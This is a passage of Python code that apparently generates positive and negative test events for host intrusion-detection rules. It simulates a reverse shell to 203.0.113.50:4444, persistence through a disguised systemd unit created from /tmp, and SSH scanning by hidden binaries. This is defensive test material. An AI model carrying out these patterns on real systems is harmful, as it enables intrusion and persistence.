    bash = sh.become('/usr/bin/bash', ['bash', '-i'])
    pos = [exec_(c, sh), exec_(c, bash, ms=3), connect(c, bash, '203.0.113.50', 4444, ms=2)]
    c = C()
    s1 = PHPFPM.child(8102, '/usr/bin/dash', ['sh', '-c', 'php /var/www/cron.php'], 'sh')
    s2 = ROOTSH.child(8103, '/usr/bin/bash', ['bash', 'sync.sh'])
    neg = [exec_(c, s1), connect(c, s1, '127.0.0.1', 9000, sip='127.0.0.1'),
           connect(c, PHPFPM, '93.184.216.34', 443),
           exec_(c, s2), connect(c, s2, '93.184.216.34', 443)]
    return pos, neg


@rule
def systemd_unit_then_enabled():
    c = C()
    sh = ROOTSH.child(8201, '/usr/bin/bash', ['bash', '/tmp/setup.sh'])
    sc = sh.child(8202, '/usr/bin/systemctl', ['systemctl', 'enable', '--now', 'dbus-org.update.service'])
    pos = [exec_(c, sh), file_(c, sh, 'creation', '/etc/systemd/system/dbus-org.update.service'),
           exec_(c, sc, ms=600)]
    c = C()
    s2 = ROOTSH.child(8211, '/usr/bin/bash', ['bash', 'a.sh'])
    s3 = ROOTSH.child(8212, '/usr/bin/bash', ['bash', 'b.sh'])
    sc3 = s3.child(8213, '/usr/bin/systemctl', ['systemctl', 'enable', 'app.service'])
    sc2 = s2.child(8214, '/usr/bin/systemctl', ['systemctl', 'status', 'app.service'])
    neg = [file_(c, s2, 'creation', '/etc/systemd/system/app.service'),
           exec_(c, sc3), exec_(c, sc2)]
    return pos, neg


@rule
def ssh_scan_outbound():
    c = C()
    sc = CRON.child(8301, '/tmp/.s/scan', ['/tmp/.s/scan', '203.0.113.0/24'])
    pos = [exec_(c, sc)] + [connect(c, sc, '203.0.113.%d' % h, 22, ms=180)
                            for h in (10, 11, 12, 13, 14)]
    c = C()
    s2 = CRON.child(8302, '/tmp/.s/scan2', ['/tmp/.s/scan2'])
    s3 = CRON.child(8303, '/tmp/.s/slow', ['/tmp/.s/slow'])
    neg = [connect(c, s2, '203.0.113.%d' % h, 22, ms=150) for h in (20, 21, 22, 23)]
    neg += [connect(c, s3, '203.0.113.%d' % h, 22, ms=7500) for h in (30, 31, 32, 33, 34)]
    ssh = USERSH.child(8304, '/usr/bin/ssh', ['ssh', 'host'])
    neg += [connect(c, ssh, '203.0.113.40', 22, ms=100) for _ in range(5)]
    return pos, neg


if __name__ == '__main__':
    import glob
    for f in glob.glob(os.path.join(OUT, '*.jsonl')):
        os.remove(f)
    for name, fn in R.items():
        pos, neg = fn()
        write(name, 'pos', pos)
        write(name, 'neg', neg)
    print(len(R), 'rules')
